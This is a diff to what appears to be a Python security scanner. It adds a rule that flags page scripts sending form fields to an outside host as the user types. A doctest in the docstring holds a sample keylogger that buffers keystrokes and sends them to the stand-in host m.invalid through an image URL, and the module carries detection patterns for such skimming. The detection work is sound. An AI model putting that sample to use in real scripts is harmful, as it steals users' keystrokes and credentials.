@@ -4,7 +4,9 @@ The family: a "UI test helper", "analytics snippet" or browser-extension content
 listens to key events, appends each key to a buffer, and ships the buffer to an address
 written in the script (``fetch``, ``sendBeacon``, an image's ``src``, a WebSocket). A
 shortcut handler reads keys too, but compares them (``e.key === 'k'``); it does not pile
-them up and send them away.
+them up and send them away. The same family reads a form as it is filled in: a listener on
+``input``, ``change`` or ``blur`` that sends the fields' values to a written host before the
+user submits anything (a flow from a password or card input is ``js-flow.form-skimmer``).
 
 >>> js = '''document.addEventListener('keydown', (e) => { buf += e.key;
 ...   if (buf.length > 40) { new Image().src = 'https://m.invalid/k?d=' + buf; } });'''
@@ -39,15 +41,54 @@ _SENT_TO_HOST = re.compile(
 """A request to an address written in the script."""
 
 
+FORM_CAPTURE_RULE_ID = "js.form-capture-as-typed"
+_TYPING_LISTENER = re.compile(
+    r"addEventListener\(\s*['\"`](?:input|change|blur|focusout|keyup)['\"`]"
+    r"|\bon(?:input|change|blur|keyup)\s*=",
+    re.I,
+)
+"""A listener that runs while the user fills a form in (not when they submit it)."""
+_FIELD_VALUES = re.compile(r"\bnew\s+FormData\b|\.value\b|\bObject\.fromEntries\b")
+_HANDLER_SPAN = 600
+"""Characters after a listener searched for its handler's reads and requests."""
+
+
+def _typed_form_findings(path: str, text: str) -> list[ThreatFinding]:
+    """A finding at each as-you-type listener whose handler reads the form's values and sends
+    them to a written outside host: the fields leave before the user decides to submit."""
+    findings = []
+    for listener in _TYPING_LISTENER.finditer(text):
+        handler = text[listener.end() : listener.end() + _HANDLER_SPAN]
+        if not _FIELD_VALUES.search(handler):
+            continue
+        hosts = [m.group(1).split("://", 1)[1] for m in _SENT_TO_HOST.finditer(handler)]
+        if any(not is_local(host) for host in hosts):
+            findings.append(
+                finding_at(
+                    path,
+                    text,
+                    listener.start(),
+                    "8.2",
+                    "critical",
+                    "form capture: a page script sends what the user types into a form, as they "
+                    "type it, to a host written in the script",
+                    FORM_CAPTURE_RULE_ID,
+                )
+            )
+    return findings
+
+
 def keylogger_findings(path: str, text: str) -> list[ThreatFinding]:
-    """One finding at the key listener of a script that buffers keys and sends them out."""
+    """One finding at the key listener of a script that buffers keys and sends them out, and
+    one at each form listener that sends the fields as they are typed."""
+    captures = _typed_form_findings(path, text) if _TYPING_LISTENER.search(text) else []
     listener = _KEY_LISTENER.search(text)
     if not listener or not _KEY_COLLECTED.search(text):
-        return []
+        return captures
     hosts = [m.group(1).split("://", 1)[1] for m in _SENT_TO_HOST.finditer(text)]
     if not any(not is_local(host) for host in hosts):
-        return []
-    return [
+        return captures
+    return captures + [
         finding_at(
             path,
             text,
